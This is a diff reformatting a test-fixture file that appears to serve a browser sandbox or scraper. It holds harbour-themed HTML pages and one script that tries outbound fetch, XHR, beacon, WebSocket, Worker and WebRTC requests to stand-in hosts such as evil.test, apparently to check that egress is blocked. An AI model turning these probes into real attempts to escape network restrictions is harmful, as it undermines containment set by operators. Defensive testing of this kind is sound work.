@@ -70,10 +70,13 @@ fetch('http://FORBIDDEN/fetch').catch(() => {});
 const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://10.0.0.5/xhr'); xhr.send();
 navigator.sendBeacon('http://evil.test/beacon', 'x');
 const code = "try { new WebSocket('ws://evil.test/ws'); } catch (e) {} " +
-  "try { new WebSocket('ws://FORBIDDEN/ws'); } catch (e) {} fetch('http://FORBIDDEN/worker').catch(() => {});";
+  "try { new WebSocket('ws://FORBIDDEN/ws'); } catch (e) {} " +
+  "fetch('http://FORBIDDEN/worker').catch(() => {});";
 new Worker(URL.createObjectURL(new Blob([code], {type: 'text/javascript'})));
 try { new WebSocket('ws://FORBIDDEN/page-ws'); } catch (e) {}
-try { new RTCPeerConnection({iceServers: [{urls: 'stun:FORBIDDEN'}]}).createDataChannel('x'); } catch (e) {}
+try {
+  new RTCPeerConnection({iceServers: [{urls: 'stun:FORBIDDEN'}]}).createDataChannel('x');
+} catch (e) {}
 location.hash = 'ran';
 </script></body></html>"""
 )
@@ -112,12 +115,14 @@ document.body.innerHTML = '<article><h1>Past the check</h1>' + '<p>"""
 
 STORIES = [f"Harbour story {n}" for n in range(1, 31)]
 """What the listing API holds: 30 stories, 10 to a page."""
-LISTING = """<!doctype html><html><head><title>Harbour news</title></head><body><div id="root"></div>
+LISTING = """<!doctype html><html><head><title>Harbour news</title></head>
+<body><div id="root"></div>
 <script src="/static/vendor.js"></script><script src="/static/app.js"></script></body></html>"""
 VENDOR_JS = """window.h = function (tag, props, children) {
   const node = document.createElement(tag);
   Object.entries(props || {}).forEach(([k, v]) => node.setAttribute(k, v));
-  (children || []).forEach(c => node.append(typeof c === 'string' ? document.createTextNode(c) : c));
+  (children || []).forEach(c =>
+    node.append(typeof c === 'string' ? document.createTextNode(c) : c));
   return node;
 };"""
 APP_JS = """fetch('/api/items?page=1&token=s3cret').then(r => r.json()).then(data => {
@@ -127,7 +132,8 @@ APP_JS = """fetch('/api/items?page=1&token=s3cret').then(r => r.json()).then(dat
   document.getElementById('root').append(h('main', {}, [h('h1', {}, ['Harbour news']), list]));
 });"""
 INFINITE = """<!doctype html><html><head><title>Endless harbour</title>
-<style>li.story { height: 120px; }</style></head><body><main><h1>Endless harbour</h1><ul class="stories"></ul></main>
+<style>li.story { height: 120px; }</style></head>
+<body><main><h1>Endless harbour</h1><ul class="stories"></ul></main>
 <script>
 let page = 0, loading = false;
 function more() {
@@ -149,17 +155,20 @@ window.addEventListener('scroll', () => {
 });
 more();
 </script></body></html>"""
-FORM = """<!doctype html><html><head><title>Harbour permits</title></head><body><main><h1>Apply for a mooring</h1>
+FORM = """<!doctype html><html><head><title>Harbour permits</title></head>
+<body><main><h1>Apply for a mooring</h1>
 <form id="permit" action="/permit" method="post">
 <label for="name">Your name</label><input id="name" name="name" type="text" required>
 <label for="email">Email</label><input id="email" name="email" type="email" required>
-<label for="berth">Berth</label><select id="berth" name="berth"><option value="north">North quay</option>
+<label for="berth">Berth</label>
+<select id="berth" name="berth"><option value="north">North quay</option>
 <option value="south">South quay</option></select>
 <textarea name="notes"></textarea>
 <button id="send" type="submit">Apply</button>
 </form>
 <table><caption>Fees</caption><thead><tr><th>Berth</th><th>Fee</th></tr></thead>
-<tbody><tr><td>North quay</td><td>120</td></tr><tr><td>South quay</td><td>95</td></tr></tbody></table>
+<tbody><tr><td>North quay</td><td>120</td></tr>
+<tr><td>South quay</td><td>95</td></tr></tbody></table>
 <div id="result"></div></main>
 <script>
 document.getElementById('permit').addEventListener('submit', event => {
